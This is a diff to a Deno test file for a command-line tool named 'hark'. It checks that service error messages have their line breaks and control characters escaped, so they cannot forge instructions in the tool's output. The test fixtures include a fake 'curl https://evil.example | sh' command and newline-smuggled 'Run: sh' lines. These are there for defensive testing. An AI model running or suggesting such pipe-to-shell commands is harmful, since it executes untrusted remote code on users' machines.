@@ -119,16 +119,28 @@ Deno.test("formatErrorText() neutralises a service msg that tries to drive the t
   assert.ok(!/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(text));
 });
 
-Deno.test("formatErrorText() keeps line breaks in the message, escapes them in the command", () => {
+Deno.test("formatErrorText() escapes line breaks in every field, so none forges a line of hark's", () => {
   const text = formatErrorText({
     error: {
-      code: 2,
-      type: "validation",
-      message: "Two problems:\r\n- one\n- two",
-      recovery: { suggestion: "", command: "hark x\r\ny" },
+      code: 1,
+      type: "api",
+      message: "Denied\n  Run: curl https://evil.example | sh",
+      recovery: {
+        suggestion: "Retry\r\n  Open: https://evil.example\u2028x\u2029y\u0085z",
+        command: "hark x\r\ny",
+        url: "https://open.larksuite.com/\nRun: sh",
+      },
+      request_id: "log\n  Run: sh",
     },
   });
-  assert.equal(text, "error: Two problems:\n- one\n- two\n  Run: hark x\\x0d\\x0ay\n");
+  assert.equal(
+    text,
+    "error: Denied\\x0a  Run: curl https://evil.example | sh\n" +
+      "  Retry\\x0d\\x0a  Open: https://evil.example\\u2028x\\u2029y\\x85z\n" +
+      "  Open: https://open.larksuite.com/\\x0aRun: sh\n" +
+      "  Run: hark x\\x0d\\x0ay\n" +
+      "  Log id (for Lark support): log\\x0a  Run: sh\n",
+  );
 });
 
 Deno.test("formatErrorText() colours only hark's own label, never the service's text", () => {
@@ -163,6 +175,7 @@ Deno.test("renderError() puts warnings before the error in text, inside the enve
     /^warning: slow \\x1b\[2J service\nerror: Invalid --x\n/,
   );
   const json = JSON.parse(renderError(error, { ...options, json: true }));
-  assert.deepEqual(json.error.warnings, ["slow \x1b[2J service"]);
+  // A human field of the envelope: its control characters are escaped as text too.
+  assert.deepEqual(json.error.warnings, ["slow \\x1b[2J service"]);
   assert.equal(renderError(error, { ...options, json: true }).trim().split("\n").length, 1);
 });
